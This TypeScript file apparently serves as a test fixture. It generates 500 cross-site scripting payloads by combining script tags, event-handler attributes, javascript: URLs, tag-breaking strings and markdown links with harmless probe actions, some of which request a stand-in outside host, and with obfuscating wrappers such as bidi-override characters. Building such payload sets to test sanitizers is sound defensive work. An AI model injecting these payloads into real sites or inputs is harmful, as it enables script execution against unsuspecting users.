const ELSEWHERE = 'https://elsewhere.example/x'

/** What each would do if it ran: open a dialog, or ask another server. */
const deeds = [
  'alert(1)',
  `fetch('${ELSEWHERE}')`,
  `new Image().src='${ELSEWHERE}'`,
  'window.ran=1',
  'import(`data:text/javascript,alert(1)`)',
]

const shapes: readonly ((deed: string) => string)[] = [
  (deed) => `<script>${deed}</script>`,
  (deed) => `<img src=x onerror="${deed}">`,
  (deed) => `<img src=${ELSEWHERE} onload="${deed}">`,
  (deed) => `<svg onload="${deed}">`,
  (deed) => `<svg><script>${deed}</script></svg>`,
  (deed) => `"><script>${deed}</script>`,
  (deed) => `'><img src=x onerror='${deed}'>`,
  (deed) => `</textarea><script>${deed}</script>`,
  (deed) => `<iframe srcdoc="<script>parent.${deed}</script>"></iframe>`,
  (deed) => `<iframe src="javascript:${deed}"></iframe>`,
  (deed) => `<a href="javascript:${deed}" autofocus onfocus="${deed}">x</a>`,
  (deed) => `[x](javascript:${deed})`,
  (deed) => `![x](${ELSEWHERE}) ${deed}`,
  (deed) => `<details open ontoggle="${deed}">`,
  (deed) => `<video><source onerror="${deed}"></video>`,
  (deed) => `<style>@import '${ELSEWHERE}';</style>${deed}`,
  (deed) => `<link rel=stylesheet href=${ELSEWHERE} onerror="${deed}">`,
  (deed) => `<math><mtext></mtext><script>${deed}</script></math>`,
  (deed) => `<object data="javascript:${deed}"></object>`,
  (deed) => `<input autofocus onfocus="${deed}">`,
]

const wrappings: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase().replaceAll('ALERT', 'alert'),
  (text) => `\`\`\`html\n${text}\n\`\`\``,
  (text) => `**${text}** \`${text}\``,
  (text) => `\u202E${text}\u202C\u200B`,
]

/** 500 texts that run something where text becomes a page. */
export const payloads: readonly string[] = shapes.flatMap((shape) =>
  deeds.flatMap((deed) => wrappings.map((wrap) => wrap(shape(deed)))),
)
